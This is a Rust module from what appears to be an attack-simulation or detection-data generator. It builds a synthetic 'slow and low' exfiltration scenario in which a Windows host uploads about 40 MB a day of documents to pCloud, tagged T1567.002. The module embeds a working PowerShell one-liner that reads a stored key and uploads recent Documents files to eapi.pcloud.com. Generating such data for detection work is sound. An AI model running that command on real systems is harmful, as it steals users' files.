//! Slow and low: about 40 MB a day for a week to a service the organisation
//! never used before, in small uploads spread over working hours.

use super::{meta, pick_host, shell, work_time, Meta, Window, MB};
use crate::activity::Http;
use crate::clock::{DAY, HOUR, MIN};
use crate::scene::Scene;
use crate::world::Os;

pub fn pcloud(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[])?;
    let days = win.days.clamp(1, 7) as i64;
    let first = work_time(
        sc,
        Window {
            start: win.start,
            days: (win.days as i64 - days + 1).max(1) as u32,
        },
        HOUR,
    );
    let day0 = first - first.rem_euclid(DAY);
    let ps = shell(sc, h, first, true);
    let script = "$k = Get-Content $env:APPDATA\\pc.key; Get-ChildItem $env:USERPROFILE\\Documents -Recurse -File | Where-Object { $_.LastWriteTime -gt (Get-Date).AddDays(-1) } | ForEach-Object { Invoke-RestMethod -Uri \"https://eapi.pcloud.com/uploadfile?auth=$k&folderid=0&filename=$($_.Name)\" -Method Post -InFile $_.FullName }";
    sc.script(first + MIN, &ps, script);
    for d in 0..days {
        let per_day = sc.rng.vary(40 * MB, 0.2);
        let n = sc.rng.range(6, 12);
        for _ in 0..n {
            let at = day0 + d * DAY + (9 * HOUR) + sc.rng.below(8 * HOUR as u64) as i64;
            if at <= first + MIN {
                continue;
            }
            let http = Http {
                method: "POST",
                path: "/uploadfile".into(),
                user_agent: "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/5.1.22621.4391".into(),
                content_type: "application/octet-stream",
                upload_name: None,
            };
            sc.upload(
                at,
                h,
                &ps,
                "eapi.pcloud.com",
                per_day / n,
                1,
                0,
                Some(http),
                443,
            );
        }
    }
    Some(meta(
        sc,
        h,
        format!("about 40 MB a day for {days} days to pCloud, a service new to the organisation"),
        "T1567.002",
        "powershell",
        "slow-and-low",
        "eapi.pcloud.com",
        "pCloud",
    ))
}
